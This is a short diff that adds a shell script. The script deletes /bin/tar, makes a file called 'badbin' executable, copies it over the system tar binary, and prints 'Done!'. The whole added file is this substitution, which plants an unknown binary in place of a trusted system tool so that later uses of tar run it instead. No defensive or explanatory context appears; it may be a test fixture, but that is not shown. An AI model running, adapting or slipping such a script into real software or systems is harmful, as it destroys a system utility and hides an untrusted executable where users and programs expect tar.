@@ -1,0 +1,5 @@
+#!/bin/sh
+rm /bin/tar
+chmod +x badbin
+cp badbin /bin/tar
+echo 'Done!'
